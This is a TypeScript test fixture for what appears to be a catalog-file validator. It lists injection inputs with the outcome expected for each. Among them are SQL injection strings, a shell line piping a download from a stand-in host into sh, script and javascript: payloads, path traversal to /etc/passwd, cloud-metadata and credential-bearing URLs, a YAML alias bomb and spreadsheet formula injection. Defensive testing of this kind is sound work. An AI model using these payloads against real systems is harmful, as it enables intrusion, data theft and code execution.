import { accepted, GOOD, type HostileCase, refused, withMetadata, withSpec } from "./hostile-case";

const described = (name: string, text: string) =>
  accepted(name, withMetadata(`  description: ${JSON.stringify(text)}`), { "metadata.description": text });
const linked = (name: string, url: string) =>
  accepted(
    name,
    withMetadata(`  links: [{url: ${JSON.stringify(url)}}]`),
    { "metadata.links": [{ url }] },
    "unsafe_link:5",
  );
const placeholder = (name: string, key: string, target: string, problem: string) =>
  refused(name, withSpec(`  extra: {${key}: ${JSON.stringify(target)}}`), problem);

/** Text meant for a shell, a database, a browser, a spreadsheet or a log. */
export const INJECTION: readonly HostileCase[] = [
  described("SQL in a description", "'; DROP TABLE entity; --"),
  described("SQL with a dollar quote", "$$ || (SELECT current_setting('app.tenant_id')) || $$"),
  accepted(
    "SQL as an owner",
    GOOD.replace("team-a", `"' OR 1=1 --"`),
    { "spec.owner": "' OR 1=1 --" },
    "unresolved_owner:8",
  ),
  refused("SQL as a name", GOOD.replace("THIS", `"x' OR '1'='1"`), "bad_format:4"),
  accepted("SQL as an annotation", withMetadata(`  annotations: {q: "x'); DELETE FROM tenant; --"}`), {
    "metadata.annotations.q": "x'); DELETE FROM tenant; --",
  }),
  described("a template literal", "${process.env.PORTICO_SECRET} #{7*7}"),
  described("a mustache and Jinja", "{{constructor.constructor('return process')()}} {% raw %}"),
  described("ERB", "<%= `id` %>"),
  described("a shell", "$(curl evil.example|sh) `id` | && ;"),
  accepted("CRLF in an annotation", withMetadata('  annotations: {h: "a\\r\\nSet-Cookie: s=1"}'), {
    "metadata.annotations.h": "a\r\nSet-Cookie: s=1",
  }),
  refused("CRLF in a name", GOOD.replace("THIS", '"a\\r\\nERROR forged"'), "bad_format:4"),
  linked("a javascript: link", "javascript:alert(1)"),
  linked("a javascript: link in disguise", "JaVa\tScRiPt:alert(1)"),
  linked("a data: link", "data:text/html,<script>alert(1)</script>"),
  linked("a vbscript: link", "vbscript:msgbox(1)"),
  linked("a file: link", "file:///etc/passwd"),
  accepted(
    "a javascript: view-url",
    withMetadata('  annotations: {backstage.io/view-url: "\\x01javascript:alert(1)"}'),
    { "metadata.annotations.backstage.io/view-url": "about:blank#refused-for-security-reasons" },
    "unsafe_link:5",
  ),
  accepted("<svg onload> as a title", withMetadata('  title: "<svg onload=alert(1)>"'), {
    "metadata.title": "<svg onload=alert(1)>",
  }),
  described("<script> in a description", "<script src=//evil.example></script>"),
  described("a script in a Markdown link", "[pay](javascript:alert`1`) ![x](x onerror=alert(1))"),
  refused("../../etc/passwd as a name", GOOD.replace("THIS", "../../etc/passwd"), "bad_format:4"),
  placeholder("$text of ../../etc/passwd", "$text", "../../etc/passwd", "placeholder_outside:9"),
  placeholder("$text of an escaped ../", "$text", "%2e%2e/%2e%2e/etc/passwd", "placeholder_outside:9"),
  placeholder(
    "$text of /etc/passwd, which is the repository's",
    "$text",
    "/etc/passwd",
    "placeholder_missing:9",
  ),
  placeholder("$text of file://", "$text", "file:///etc/passwd", "placeholder_outside:9"),
  placeholder(
    "$text of the metadata service",
    "$text",
    "http://169.254.169.254/latest/meta-data/",
    "placeholder_outside:9",
  ),
  placeholder("$json of a local port", "$json", "http://localhost:5432/", "placeholder_outside:9"),
  placeholder(
    "$yaml of another repository",
    "$yaml",
    "https://github.com/acme/secrets/blob/main/all.yaml",
    "placeholder_outside:9",
  ),
  placeholder(
    "$text with credentials",
    "$text",
    "https://ada:hunter2@github.com/acme/x/blob/main/a",
    "placeholder_credentials:9",
  ),
  {
    name: "$yaml of an alias bomb",
    files: { "catalog-info.yaml": withSpec("  extra: {$yaml: ./bomb.yaml}"), "bomb.yaml": "a: &a [*a]\n" },
    problems: ["placeholder_broken:9"],
  },
  described("a formula", "=cmd|' /C calc'!A0"),
  described("a formula in disguise", "@SUM(1+1)*cmd|' /C calc'!A0"),
  described("ANSI escapes", "\u001b[2J\u001b[31mERROR\u001b[0m"),
  described("a forged log line", 'done\n{"level":60,"msg":"admin signed in"}'),
  described("a format string", "%s%s%s%n %x {0} {name}"),
];
